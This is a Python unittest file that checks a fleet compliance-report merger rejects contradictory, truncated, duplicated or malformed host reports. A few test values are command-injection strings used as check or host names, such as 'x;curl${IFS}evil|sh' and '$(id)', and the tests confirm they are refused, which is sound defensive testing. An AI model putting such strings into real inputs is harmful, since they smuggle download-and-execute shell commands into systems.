#!/usr/bin/env python3
"""No evidence, no pass: what a fleet must not be called compliant by. evidence_test.py HOSTPREP_REPORT"""
import copy
import gzip
import json
import os
import subprocess
import unittest

import maker
from merge_test import PROGRAM, Case, dump, later, merge, rows, schemas


def good(name, seed="g"):
    """A compliant report of that host."""
    document = next(maker.hosts(1, 0, f"{seed}/{name}"))[2]
    document["host"]["name"] = name
    document["findings"] = [f for f in document["findings"] if f["state"] in ("pass", "not-applicable", "skipped")]
    return concluded(document, "compliant", 0)


def concluded(document, verdict, code):
    document["summary"] = {word: sum(f["state"] == word and not f["waiver"] for f in document["findings"]) for word in maker.COUNTS}
    document["summary"]["waived"] = sum(bool(f["waiver"]) for f in document["findings"])
    pending = [f for f in document["findings"] if f["state"] == "pending-reboot"]
    document["reboot"] = {"required": bool(pending), "kind": "full" if pending else "none",
                          "reasons": [{k: f[k] for k in ("check", "subject", "text")} for f in pending]}
    return {**document, "verdict": verdict, "exit_code": code}


def part(document):
    """A run of some checks."""
    return {**document, "complete": False, "selection": {**document["selection"], "only": "*-ats,gpu*"}}


def failing(document, check="hca-ats", waived=False):
    document = copy.deepcopy(document)
    for f in document["findings"]:
        if f["check"] == check:
            f.update(state="fail", waiver={"reason": "known", "until": "2027-01-01"} if waived else None)
    return concluded(document, "non-compliant", 2)


class Claims(Case):
    """One report that says more than it may."""

    def merged(self, document, state, code, name="a", valid=True):
        self.put(f"{name}.json", dump(document))
        fleet, exit_code, _ = merge(self.folder, "in")
        row = rows(fleet)[name]
        self.assertEqual((row["state"], exit_code), (state, code), row["reason"])
        if valid:
            self.assertEqual(schemas.problems(fleet), [])
        return row

    def test_an_undo_speaks_of_what_was_put_back(self):
        self.merged({**failing(good("a")), "command": "undo", "exit_code": 0}, "ok", 2)
        self.merged({**good("a"), "command": "undo"}, "ok", 0)

    def test_findings_outweigh_what_is_concluded_of_them(self):
        bad = failing(good("a"))
        for more in ({"exit_code": 0}, {"exit_code": 0, "verdict": "compliant"}, {"exit_code": 4, "verdict": "reboot-pending"}):
            for command in ("check", "fix"):
                self.assertIn("contradicts", self.merged({**bad, "command": command, **more}, "bad-output", 3)["reason"])

    def test_one_waiver_is_for_one_finding(self):
        waived = failing(good("a"), "hca-ats", waived=True)
        self.merged({**waived, "verdict": "compliant", "exit_code": 0}, "ok", 0, valid=False) # no agent waives yet
        mixed = failing(waived, "gpu-reset")
        self.merged(mixed, "ok", 2, valid=False)
        self.merged({**mixed, "verdict": "compliant", "exit_code": 0}, "bad-output", 3)

    def test_nothing_judged_is_nothing_passed(self):
        document = good("a")
        document["findings"] = [f for f in document["findings"] if f["state"] != "pass"]
        self.assertIn("nothing was judged", self.merged(concluded(document, "compliant", 0), "ok", 3)["reason"])

    def test_a_part_is_said_to_be_one(self):
        self.assertIn("only a part", self.merged(part(good("a")), "ok", 0)["reason"])
        self.assertIn("ended early", self.merged({**good("a"), "complete": False}, "ok", 3)["reason"])

    def test_errors_and_a_verdict(self):
        errors = [{"where": "maintenance-mode", "text": "It failed."}]
        for document in ({**good("a"), "errors": errors}, {**good("a"), "errors": errors, "command": "fix"},
                         {**failing(good("a")), "errors": errors}):
            self.assertIn("It failed", self.merged(document, "bad-output", 3)["reason"])
        stopped = self.merged({**failing(good("a")), "errors": errors, "command": "fix"}, "ok", 2)
        self.assertEqual(stopped["report"]["errors"], errors)
        (self.folder / "f.json").write_bytes(dump(merge(self.folder, "in")[0]))
        said = subprocess.run([PROGRAM, "summary", self.folder / "f.json"], stdout=subprocess.PIPE, check=False).stdout.decode()
        self.assertIn("maintenance-mode: It failed.", said)

    def test_reboots_that_contradict(self):
        needed = {"required": True, "kind": "full", "reasons": [{"check": "hca-ats", "subject": "host", "text": "It waits."}]}
        for command in ("check", "fix", "undo"):
            self.assertIn("a reboot is required", self.merged({**good("a"), "command": command, "reboot": needed}, "bad-output", 3)["reason"])
        waiting = good("a")
        for f in waiting["findings"]:
            if f["check"] == "hca-ats":
                f.update(state="pending-reboot", remedy={**f["remedy"], "reboot": "full"})
        waiting = concluded(waiting, "reboot-pending", 4)
        self.merged(waiting, "ok", 4)
        none = {"required": False, "kind": "none", "reasons": []}
        self.assertIn("wait for a reboot", self.merged({**waiting, "reboot": none}, "bad-output", 3)["reason"])

    def test_times_that_are_none(self):
        for text in ("yesterday", "", "2026-11-27T01:30:00+02:00", "2026-11-26t14:02:31z", "2026-13-45T00:00:00Z",
                     "2026-11-26T14:02:31.9Z", "2026-11-26"):
            for name in ("started", "finished"):
                self.assertIn(f'its "{name}" is no time', self.merged({**good("a"), name: text}, "bad-output", 3)["reason"])
        self.assertIn("when it was made", self.merged({**good("a"), "finished": None}, "bad-output", 3)["reason"])

    def test_versions(self):
        for version, state in (("1.0.0", "ok"), ("1.3.0", "ok"), ("1.garbage", "bad-output"), ("1.", "bad-output"),
                               ("10.0.0", "bad-output"), ("2.0.0", "bad-output")):
            self.merged({**good("a"), "schema_version": version}, state, 0 if state == "ok" else 3, valid=False)

    def test_names_that_are_commands(self):
        for check in ("x;curl${IFS}evil|sh", "$(id)", "", "A", "x" * 65, "-x"):
            document = good("a")
            document["findings"][0]["check"] = check
            self.assertIn("check's name", self.merged(document, "bad-output", 3)["reason"])

    def test_thousands_of_findings(self):
        document = good("a")
        document["findings"] = [{**document["findings"][-1], "check": f"c{i}"} for i in range(5000)]
        self.assertIn("4096", self.merged(concluded(document, "compliant", 0), "bad-output", 3)["reason"])

    def test_an_exit_code_that_says_otherwise(self):
        for rc, code in ((0, 0), (None, 0), (1, 3), (2, 3), (137, 3)):
            line = {**maker.row("a", "c", good("a")), "rc": rc}
            self.put("f.json", dump(self.fleet([line], 0)))
            self.assertEqual(merge(self.folder, "in/f.json")[1], code, rc)

    @staticmethod
    def fleet(lines, code, **more):
        verdict = {0: "compliant", 2: "non-compliant", 3: "unknown", 4: "reboot-pending"}[code]
        return {**maker.fleet(0, 0, "x"), "hosts": lines, "expected": len(lines), "verdict": verdict, "exit_code": code,
                "counts": {s: sum(line["state"] == s for line in lines) for s in maker.ROWS}, **more}

    def test_a_fleet_that_contradicts_itself(self):
        a, b = (maker.row(n, "c", good(n)) for n in "ab")
        for lines, more in (([a, b], {"expected": 10}), ([a, a], {}), ([{**a, "name": "$(id) x"}], {}),
                            ([a, b], {"counts": {**{s: 0 for s in maker.ROWS}, "ok": 1, "timeout": 1}})):
            self.put("f.json", dump(self.fleet(lines, 0, **more)))
            done = subprocess.run([PROGRAM, "summary", self.folder / "in/f.json"], stdout=subprocess.PIPE,
                                  stderr=subprocess.PIPE, check=False)
            self.assertEqual(done.returncode, 1, done.stdout)
            self.assertEqual(merge(self.folder, "in")[1], 3)
        for lines, code in (([a, b], 2), ([], 3)): # a head that is worse than its rows; none
            self.put("f.json", dump(self.fleet(lines, code)))
            self.put("c.json", dump(good("c")))
            self.assertEqual(merge(self.folder, "in")[1], 3)
        (self.folder / "in/c.json").unlink()
        self.put("f.json", dump(self.fleet([b, a], 0))) # in whatever order
        self.assertEqual(merge(self.folder, "in")[1], 0)
        self.put("f.json", dump(self.fleet([{**a, "state": "timeout"}], 3)))
        self.assertEqual(rows(merge(self.folder, "in")[0])["a"]["state"], "timeout")


class Collections(Case):
    """Files in which something is missing, or somebody else's."""

    def setUp(self):
        super().setUp()
        self.a, self.b = good("a"), good("b")

    def test_a_host_is_not_spoken_for_by_another_ones_file(self):
        self.put("b.json", dump(failing(self.b)))
        for text in (dump(self.a) + dump(later(self.b)), dump([self.a, later(self.b)]),
                     b"".join(b"b: " + line + b"\n" for line in dump(later(self.b)).splitlines())):
            self.put("a.json", text)
            fleet, code, _ = merge(self.folder, "in", hosts=["a", "b"])
            self.assertEqual({n: r["state"] for n, r in rows(fleet).items()}, {"a": "bad-output", "b": "ok"})
            self.assertEqual(code, 2)

    def test_cut_where_another_one_begins(self):
        self.put("all.ndjson", dump(self.a, None)[:3000] + b"\n" + dump(self.b, None))
        found = rows(merge(self.folder, "in")[0])
        self.assertEqual((found["b"]["state"], found["a"]["state"]), ("ok", "bad-output"))
        self.assertIn("another document begins in the middle of it", found["a"]["reason"])

    def test_a_nul_hides_nothing(self):
        bad = failing(self.b)
        a, b = dump(self.a, None), dump(bad, None)
        for text in (a + b"\0\n" + b, a + b"\0" + b, b"[" + a + b"]\0" + b, b"\0" + a + b, a + b"\n\0\n" + b, a + b"\0"):
            for name, data in (("all.ndjson", text), ("x.json", text), ("x.json.gz", gzip.compress(text)),
                               ("x.json", b"\xff\xfe" + text.decode().encode("utf-16-le"))):
                self.put(name, data)
                self.assertGreater(merge(self.folder, "in", hosts=["a"])[1], 0, (name, text[:3]))
                self.assertIn(merge(self.folder, "-", text=data)[1], (2, 3))
                (self.folder / "in" / name).unlink()
        self.put("a.json", a + b"\0 more")
        self.assertEqual(rows(merge(self.folder, "in", hosts=["a"])[0])["a"]["state"], "bad-output")
        (self.folder / "in/a.json").unlink()
        fleets = [dump(Claims.fleet([maker.row(d["host"]["name"], "c", d)], code), None) for d, code in ((self.a, 0), (bad, 2))]
        self.put("f.json", fleets[0] + b"\0" + fleets[1])
        self.assertEqual(merge(self.folder, "in")[1], 3)
        for words in (("summary", "in/f.json"), ("merge", "in", "--baseline", "in/f.json")):
            self.assertEqual(subprocess.run([PROGRAM, *words], cwd=self.folder, stdout=subprocess.DEVNULL,
                                            stderr=subprocess.DEVNULL, check=False).returncode, 1, words)

    def test_what_is_cut_is_told(self):
        line = dump(self.a, None)
        first, second = (gzip.compress(b"".join(n + b": " + text + b"\n" for text in dump(d).splitlines()))
                         for n, d in ((b"a", self.a), (b"b", failing(self.b))))
        for name, text in (("all.json", b"[" + line.strip() + b","), ("all.json", b"[" + line.strip()),
                           ("all.ndjson", b"[" + line.strip() + b",\n"), ("pdsh.gz", first + second[:40]),
                           ("all.ndjson", line + b" " * (17 << 20) + dump(failing(self.b), None))):
            path = self.put(name, text)
            code = merge(self.folder, "in")[1]
            self.assertIn(code, (2, 3), (name, text[-20:]))
            path.unlink()
        self.put("all.json", b"[" + line.strip() + b"]")
        self.assertEqual(merge(self.folder, "in")[1], 0)

    def test_what_cannot_be_read_has_a_row(self):
        self.put("a.json", dump(self.a))
        self.assertEqual(merge(self.folder, "in")[1], 0)
        fleet = dump(Claims.fleet([maker.row("b", "c", failing(self.b)), maker.row("c", "c", good("c"))], 2))
        self.put("rack2.json", fleet[:-len(fleet) // 3])
        document, code, _ = merge(self.folder, "in")
        self.assertEqual((code, rows(document)["rack2.json:1"]["state"]), (3, "bad-output"))
        (self.folder / "in/rack2.json").unlink()
        os.symlink("/nowhere/at/all", self.folder / "in/b.json")
        self.assertEqual(merge(self.folder, "in")[1], 3)
        (self.folder / "in/b.json").unlink()
        deep = self.folder / "in"
        for _ in range(17):
            deep = deep / "d"
        deep.mkdir(parents=True)
        self.assertEqual(merge(self.folder, "in")[1], 3)

    def test_names_that_end_as_other_files_do(self):
        names = ["esx.acme.sh", "esx.acme.md", "esx.acme.zip", "seq"]
        for name in names:
            self.put(name, dump(failing(good(name))))
        self.put("README.md", b"# what this is\n")
        self.put("get.sh", b"#!/bin/sh\n")
        document, code, _ = merge(self.folder, "in")
        self.assertEqual((set(rows(document)), code), (set(names), 2))

    def test_beginnings_without_end(self):
        self.put("a.json", b'{"schema"\n' * 200000) # two megabytes: minutes where each is looked for through all
        document, code, _ = merge(self.folder, "in", hosts=["a"])
        self.assertEqual((code, rows(document)["a"]["state"]), (3, "bad-output"))

    def test_an_older_report_does_not_hide_that_the_host_is_gone(self):
        today, yesterday = (Claims.fleet([line], code) for line, code in (
            ({**maker.no_row("a", "c", "timeout", maker.random.Random(1))}, 3), (maker.row("a", "c", self.a), 0)))
        self.put("today.json", dump(today))
        self.put("yesterday.json", dump(yesterday))
        self.assertIn("timeout", rows(merge(self.folder, "in")[0])["a"]["reason"])


class Machines(Case):
    """Reports of one name."""

    def test_two_machines_of_one_name(self):
        for bad_first in (True, False):
            a, b = good("localhost", "1"), good("localhost", "2")
            a = failing(a) if bad_first else a
            self.put("dc1/esx01.json", dump(a))
            self.put("dc2/esx01.json", dump(later(b)))
            document, code, _ = merge(self.folder, "in")
            self.assertEqual((rows(document)["esx01"]["state"], code), ("bad-output", 3))
            self.assertIn("two machines", rows(document)["esx01"]["reason"])

    def test_a_part_does_not_stand_for_the_whole(self):
        whole = good("a")
        some = later(part(whole))
        for first, second, code in ((failing(whole), some, 2), (whole, failing(some), 2), (whole, some, 0)):
            self.put("1/a.json", dump(first))
            self.put("2/a.json", dump(second))
            self.assertEqual(merge(self.folder, "in")[1], code)

    def test_as_new_and_worse(self):
        """Of two reports of one second the worse one counts, however they are given."""
        for names in ("12", "21"):
            for place in ("1", "2"):
                self.put(f"{place}/a.json", dump(failing(good("a")) if place == names[0] else good("a")))
            for order in (("in/1", "in/2"), ("in/2", "in/1")):
                self.assertEqual(merge(self.folder, *order)[1], 2)

    def test_one_uuid_in_two_spellings(self):
        a, b = good("a"), good("b")
        a["host"]["uuid"] = "6A98270C-b75f-a36d-06fd-000000000001"
        b["host"]["uuid"] = "6a98270cb75fa36d06fd000000000001"
        self.put("a.json", dump(later(a)))
        self.put("b.json", dump(b))
        document, code, _ = merge(self.folder, "in")
        self.assertEqual(({name: row["state"] for name, row in rows(document).items()}, code), ({"a": "ok", "b": "duplicate"}, 3))

    def test_a_kept_report_is_said_to_be_one(self):
        self.put("a.json", dump({**good("a"), "age_s": 7200}))
        document, code, _ = merge(self.folder, "in")
        self.assertEqual(code, 0)
        self.assertIn("7200 s old", rows(document)["a"]["reason"])

    def test_changes_that_failed(self):
        change = {"check": "hca-ats", "subject": "0000:18:00.0", "from": "0", "to": "1", "command": None, "reboot": "full"}
        for result, state in (("verified", "ok"), ("failed", "bad-output"), ("planned", "bad-output"), ("ineffective", "bad-output"),
                              ("applied", "bad-output")):
            self.put("a.json", dump({**good("a"), "command": "fix", "changes": [{**change, "result": result}]}))
            self.assertEqual(rows(merge(self.folder, "in")[0])["a"]["state"], state, result)

    def test_lists_of_hosts(self):
        self.put("10.json", dump(good("x")))
        self.assertEqual(rows(merge(self.folder, "in", hosts=["10.0.0.1"])[0])["10.0.0.1"]["state"], "unreachable")
        (self.folder / "v6").write_text("[2001:db8::5]\nesx01\n")
        self.assertEqual(merge(self.folder, "--hosts", "v6", "in")[1], 64)

    def test_an_error_comes_first(self):
        lines = b"esx03: ssh: connect to host esx03 port 22: Connection refused\n"
        lines += b"".join(b"esx01: " + line + b"\n" for line in dump(failing(good("esx01"))).splitlines())
        self.put("pdsh.txt", lines)
        document, code, _ = merge(self.folder, "in", hosts=["esx01", "esx03"])
        self.assertEqual((code, rows(document)["esx01"]["state"], rows(document)["esx03"]["state"]), (2, "ok", "bad-output"))

    def test_output_is_no_input(self):
        path = self.put("a.json", dump(good("a")))
        for words in (("merge", path, "-o", path), ("merge", "--hosts", path, path, "-o", path)):
            done = subprocess.run([PROGRAM, *words], stdout=subprocess.PIPE, stderr=subprocess.PIPE, check=False)
            self.assertEqual(done.returncode, 64)
        self.assertEqual(path.read_bytes(), dump(good("a")))

    def test_the_summary_says_what_may_be_done(self):
        plain, wild, fixed = (failing(good(n)) for n in "abc")
        for document, text, fixable in ((plain, "Change it.", True), (wild, "Change it so.", True), (fixed, "It cannot be set.", False)):
            document["policy"] = {"name": "site", "source": "site.yaml", "sha256": maker.POLICY}
            for f in document["findings"]:
                if f["check"] == "hca-ats":
                    f["remedy"] = {"text": text, "command": None, "fixable": fixable, "reboot": "full"}
            self.put(f"{document['host']['name']}.json", dump(document))
        losing = good("d")
        for f in losing["findings"]:
            f["state"] = {"gpu-reset": "regressing", "hca-ats": "pending-reboot"}.get(f["check"], f["state"])
        self.put("d.json", dump(concluded(losing, "non-compliant", 2)))
        fleet, _, _ = merge(self.folder, "in")
        (self.folder / "f.json").write_text(json.dumps(fleet))
        text = subprocess.run([PROGRAM, "summary", self.folder / "f.json"], stdout=subprocess.PIPE, check=False).stdout.decode()
        self.assertIn("The first: Change it.", text)
        self.assertIn("fix --nodes a,b --only hca-ats --policy POLICY", text)
        self.assertIn("On the other 1 host", text)
        self.assertIn("NO REBOOT YET: 1 host", text)
        self.assertNotIn("REBOOT full", text)


class Drift(Case):
    """Hosts that have moved between two fleets."""

    @staticmethod
    def host(name, uuid, bad=False):
        document = good(name, seed=uuid)
        document["host"]["uuid"] = f"00000000-0000-4000-8000-{uuid:012x}"
        return maker.row(name, "c", failing(document) if bad else document)

    def diff(self, old, new):
        lost = {**maker.no_row("x", "c", "unreachable", maker.random.Random(1))}
        for name, lines in (("old", old), ("new", new)):
            lines = sorted((line if isinstance(line, dict) else {**lost, "name": line} for line in lines), key=lambda r: r["name"])
            self.put(f"{name}.json", dump(Claims.fleet(lines, 2 if any(
                (line["report"] or {}).get("exit_code") == 2 for line in lines) else 3 if any(
                    line["state"] != "ok" for line in lines) else 0)))
        done = subprocess.run([PROGRAM, "diff", self.folder / "in/old.json", self.folder / "in/new.json", "--format", "json"],
                              stdout=subprocess.PIPE, check=False)
        document = json.loads(done.stdout)
        self.assertEqual(schemas.problems(document), [])
        return {item["host"] for item in document["newly_failing"]}, document["hosts"]

    def test_renamed_while_the_old_name_does_not_answer(self):
        for new, old in (("b", "a"), ("a", "b")):
            bad, hosts = self.diff([self.host(old, 1)], [old, self.host(new, 1, bad=True)])
            self.assertEqual((bad, hosts["added"], hosts["gone"], hosts["not_scanned"]), ({new}, [], [], [old]))

    def test_renamed(self):
        bad, hosts = self.diff([self.host("a", 1)], [self.host("b", 1, bad=True)])
        self.assertEqual((bad, hosts["added"], hosts["gone"]), ({"b"}, [], []))
        self.assertEqual(hosts["renamed"], [{"from": "a", "to": "b"}])

    def test_another_machine_under_an_old_name(self):
        bad, hosts = self.diff([self.host("a", 1)], [self.host("a", 3), self.host("z", 1, bad=True)])
        self.assertEqual((bad, hosts["added"], hosts["gone"]), ({"z"}, ["a"], []))
        bad, hosts = self.diff([self.host("a", 1)], [self.host("a", 3, bad=True)]) # a board was replaced
        self.assertEqual((bad, hosts["added"], hosts["gone"]), ({"a"}, [], []))

    def test_names_that_are_one_host_change_places(self):
        def pair(first, second, bad):
            line = self.host(first, 1, bad)
            return [line, {**line, "name": second, "state": "duplicate", "reason": "made up"}]
        bad, hosts = self.diff(pair("x", "y", False), pair("y", "x", True))
        self.assertEqual((bad, hosts["added"], hosts["gone"]), ({"y"}, [], []))


if __name__ == "__main__":
    unittest.main()
